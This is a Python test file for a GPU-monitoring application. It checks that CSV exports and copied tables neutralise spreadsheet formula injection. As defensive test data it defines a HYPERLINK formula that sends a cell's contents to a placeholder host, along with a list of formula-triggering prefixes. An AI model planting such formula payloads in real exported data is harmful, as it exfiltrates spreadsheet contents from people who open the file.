"""Exported tables with names that a spreadsheet would evaluate as formulas."""

from __future__ import annotations

import csv
import io
from collections.abc import Sequence
from pathlib import Path

import numpy as np
import pytest
from msgspec import structs
from PySide6.QtGui import QGuiApplication
from PySide6.QtWidgets import QApplication
from pytestqt.qtbot import QtBot

from engine.cli.gpus import csv_lines
from engine.contract.devices import GpuProcess
from engine.system.plain_text import CsvWriter
from gui.compare.comparison import create_rows
from gui.compare.table_model import generate_comparison_rows, generate_curve_rows
from gui.monitor.processes.view import ProcessesView
from gui.run.classes.table import make_confusion_rows
from gui.sources.devices.history import DeviceHistory
from gui.sources.devices.hosts import Hosts
from gui.sources.export import copy_excerpt, write_csv
from gui.sources.run_intervals import RunIntervals
from tests.engine.cli.machines import gpu as plain_gpu
from tests.engine.cli.machines import machine
from tests.gui.compare.runs import load_run, make_run
from tests.gui.monitor.machines import deliver_snapshot
from tests.gui.sources.devices.snapshots import gpu, snapshot

pytestmark = pytest.mark.attacks

FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"press")'
BEGINNINGS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def read(text: str, delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


def write_cells(*cells: object) -> list[str]:
    text = io.StringIO(newline="")
    CsvWriter(text).write_row(cells)
    (row,) = read(text.getvalue())
    return row


@pytest.mark.parametrize("beginning", BEGINNINGS)
def test_csv_writer_neutralizes_formulas(beginning: str) -> None:
    assert write_cells(f"{beginning}1+cmd") == [f"'{beginning}1+cmd"]


@pytest.mark.parametrize("separator", [";", "\t"])
def test_csv_writer_quotes_other_separators(separator: str) -> None:
    text = io.StringIO(newline="")
    CsvWriter(text).write_row(["roses", f"x{separator}=1+cmd"])
    assert text.getvalue() == f'"roses","x{separator}=1+cmd"\r\n'


@pytest.mark.parametrize("number", ["-0.5", "+3", "-1e-05", "-inf", "-7"])
def test_csv_writer_keeps_numbers(number: str) -> None:
    assert write_cells(number, float(number)) == [number, str(float(number))]


@pytest.mark.parametrize("text", ["roses", "a-b", "x=1", "–", "", "'quoted", "1,5", "two\nlines"])
def test_csv_writer_keeps_plain_text(text: str) -> None:
    assert write_cells(text, "beside it") == [text, "beside it"]


def assert_nothing_computed(table: Sequence[Sequence[str]]) -> None:
    cells = [cell for row in table for cell in row]
    assert f"'{FORMULA}" in cells
    assert not [cell for cell in cells if cell.startswith(BEGINNINGS) and not is_number(cell)]


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_gpus_csv_has_no_formulas() -> None:
    named = machine(structs.replace(plain_gpu(0), name=FORMULA), structs.replace(plain_gpu(1), name=f" {FORMULA}"))
    assert_nothing_computed([row for line in csv_lines.format_lines(named) for row in read(line)])


def test_monitor_export_has_no_formulas(tmp_path: Path) -> None:
    history = DeviceHistory()
    for second in range(3):
        history.add(snapshot(gpu(0), time=1e9 + second), FORMULA)
    keys = [key for key in history.titles if key.startswith(FORMULA)]
    numbers = copy_excerpt(history, keys, ["utilization_percent", "temperature_c"], 0.0, 2e9)
    table = read(write_csv(tmp_path / "numbers.csv", numbers).read_text(encoding="utf-8"))
    assert_nothing_computed(table)
    assert {row[table[0].index("utilization_percent")] for row in table[1:]} >= {"87"}


def test_comparison_export_has_no_formulas(tmp_path: Path) -> None:
    runs = tuple(load_run(make_run(8, name=FORMULA, dataset=f"/data/{number}"), number) for number in range(2))
    for table in (generate_curve_rows(runs), generate_comparison_rows(runs, create_rows(runs))):
        assert_nothing_computed(read(write_csv(tmp_path / "runs.csv", table).read_text(encoding="utf-8")))


def test_class_export_has_no_formulas(tmp_path: Path) -> None:
    table = make_confusion_rows((FORMULA, "@rose"), np.array([[6, 2], [1, 9]]))
    rows = read(write_csv(tmp_path / "classes.csv", table).read_text(encoding="utf-8"))
    assert_nothing_computed(rows)
    assert rows[1:] == [[f"'{FORMULA}", "6", "2"], ["'@rose", "1", "9"]]


def test_copied_processes_have_no_formulas(qapp: QApplication, qtbot: QtBot, tmp_path: Path) -> None:
    view = ProcessesView(Hosts(), RunIntervals())
    qtbot.addWidget(view)
    hostile = GpuProcess(7, memory_used_bytes=1 << 30, user=FORMULA, name="x\t=1", command="=2\t\n=3")
    deliver_snapshot(view._hosts, snapshot(gpu(0, processes=(hostile,))))
    view.refresh()
    view.tree.selectAll()
    view.copy_selected()
    table = read(QGuiApplication.clipboard().text(), "\t")
    assert_nothing_computed(table)
    assert {len(row) for row in table} == {len(table[0])}
